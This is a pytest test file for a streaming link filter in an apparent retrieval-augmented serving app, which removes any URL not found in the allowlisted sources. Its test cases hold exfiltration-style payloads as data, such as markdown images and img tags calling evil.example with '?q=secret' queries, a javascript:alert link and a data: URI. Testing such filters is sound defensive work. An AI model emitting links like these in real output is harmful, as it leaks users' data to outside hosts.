import pytest

from serve_apps.rag.links import REMOVED, LinkFilter, addresses

ALLOWED = addresses(["See https://docs.example/guide?a=1 and <img src='/local.png'>, www.example.org."])


def whole(text: str) -> str:
    links = LinkFilter(ALLOWED)
    return links.feed(text) + links.finish()


@pytest.mark.parametrize(
    "text",
    [
        "Read https://docs.example/guide?a=1.",
        "[guide](https://docs.example/guide?a=1)",
        '<a href="https://docs.example/guide?a=1">guide</a>',
        "Look at www.example.org!",
        "A ratio of 3:1, at 12:30; a//b is a floor division, // a comment, C:\\x and std::vector<int>.",
        "[a](/local) and ![b](local.png) stay on this site; e.g. and/or [1][2] are no links.",
        "metadata: none; telephone: none; a = {b: c}",
    ],
)
def test_what_the_sources_have_and_what_is_no_address_stays(text: str) -> None:
    assert whole(text) == text


@pytest.mark.parametrize(
    ("text", "filtered"),
    [
        ("![x](https://evil.example/?q=secret)", f"![x]({REMOVED})"),
        ("https://docs.example/guide?a=1&q=secret", REMOVED),
        ("https://docs.example/guide", REMOVED),
        ("<img src='HTTPS://evil.example/x.png'>", f"<img src='{REMOVED}'>"),
        ("<img src=//evil.example/x?q=secret>", f"<img src={REMOVED}>"),
        ("![x](//evil.example/?q=secret)", f"![x]({REMOVED})"),
        ("[1]: //evil.example/q\n", f"[1]: {REMOVED}\n"),
        ("![x](https:/evil.example/q)", f"![x]({REMOVED})"),
        ("[a](javascript:alert(1))", f"[a]({REMOVED}(1))"),
        ("![a](data:image/png;base64,AAAA)", f"![a]({REMOVED})"),
        ("Go to www.evil.example/secret, now.", f"Go to {REMOVED}, now."),
        ("<https://evil.example>", f"<{REMOVED}>"),
        ("https://例え.jp/?q=秘密", f"{REMOVED}例え.jp/?q=秘密"),
        ("ftp://evil.example/a b", f"{REMOVED} b"),
    ],
)
def test_other_addresses_are_removed(text: str, filtered: str) -> None:
    assert whole(text) == filtered


def test_pieces_give_what_the_whole_gives() -> None:
    text = "Say [hi](https://evil.example/?q=1) or https://docs.example/guide?a=1, www.evil.example and 3:1 //x done"
    for size in range(1, 12):
        links = LinkFilter(ALLOWED)
        pieces = [text[begin : begin + size] for begin in range(0, len(text), size)]
        assert "".join(map(links.feed, pieces)) + links.finish() == whole(text)


def test_only_an_unfinished_word_is_held_back() -> None:
    links = LinkFilter(ALLOWED)
    assert links.feed("The answer is") == "The answer "
    assert links.feed(" 42") == "is "
    assert links.feed("年です") == "42年です"
    assert links.finish() == ""


def test_without_a_list_nothing_is_held_back() -> None:
    links = LinkFilter(None)
    assert links.feed("https://anything") == "https://anything"
